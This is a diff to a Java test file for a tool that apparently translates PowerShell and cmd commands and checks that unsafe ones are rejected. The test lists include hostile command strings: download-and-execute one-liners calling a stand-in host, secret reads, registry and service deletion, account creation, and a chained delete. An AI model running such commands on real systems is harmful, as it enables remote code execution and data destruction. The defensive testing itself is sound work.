@@ -24,7 +24,7 @@ class OtherShellsTest {
     }
 
     static Stream<String> examples() {
-        return Cmdlet.all().stream().flatMap(cmdlet -> {
+        return Cmdlets.cmdlets().stream().flatMap(cmdlet -> {
             assertThat(cmdlet.examples()).as(cmdlet.names().toString()).isNotEmpty();
             return cmdlet.examples().stream();
         });
@@ -36,7 +36,8 @@ class OtherShellsTest {
         int arrow = example.indexOf(" => ");
         String translated = PowerShell.translate(example.substring(0, arrow));
         String expected = example.substring(arrow + 4);
-        assertThat(translated == null ? "?" : translated.replace("'", "")).isEqualTo(expected);
+        assertThat(translated == null ? "?" : translated.replace("'", "").replace("\n", "\\n"))
+                .isEqualTo(expected);
     }
 
     @ParameterizedTest
@@ -78,15 +79,19 @@ class OtherShellsTest {
             strings = {
                 "iex (irm https://e.example)",
                 "[IO.File]::Delete('x')",
-                "& 'C:\\x.exe'",
                 ". ./x.ps1",
-                "$env:PATH = 'x'",
                 "$PSDefaultParameterValues['*:Force'] = $true",
-                "Get-ChildItem | ForEach-Object { Remove-Item $_ }",
+                "Get-ChildItem | ForEach-Object Delete",
+                "function f { Remove-Item x }",
+                "& $x",
+                "[scriptblock]::Create('x').Invoke()",
+                "(New-Object Net.WebClient).DownloadString('https://e.example')",
+                "Get-Secret x",
+                "New-AzVM x",
+                "Remove-Item HKCU:\\Software\\x",
+                "Get-Item x; exec rm x",
                 "Get-ChildItem | Where-Object { $_.Delete() }",
-                "\"$(Remove-Item x)\"",
-                "Get-Process > x",
-                "Get-Foo",
+                "Set-Foo",
                 "git status --% & del x",
                 "Remove-Item 'x",
                 "Start-Process x",
@@ -132,13 +137,14 @@ class OtherShellsTest {
     @ValueSource(
             strings = {
                 "%COMSPEC% /c del x",
-                "for /f %i in (x) do del %i",
-                "if exist x del x",
                 "call x.bat",
                 "start x",
-                "echo hi > x",
                 "!x!",
-                "set PATH=x",
+                "reg delete HKCU\\x /f",
+                "net user x y",
+                "sc delete x",
+                "robocopy a b /MIR",
+                "echo x & (goto y)",
                 "powershell x"
             })
     void whatTheCommandPromptCanDoBesidesIsNotUnderstood(String command) {
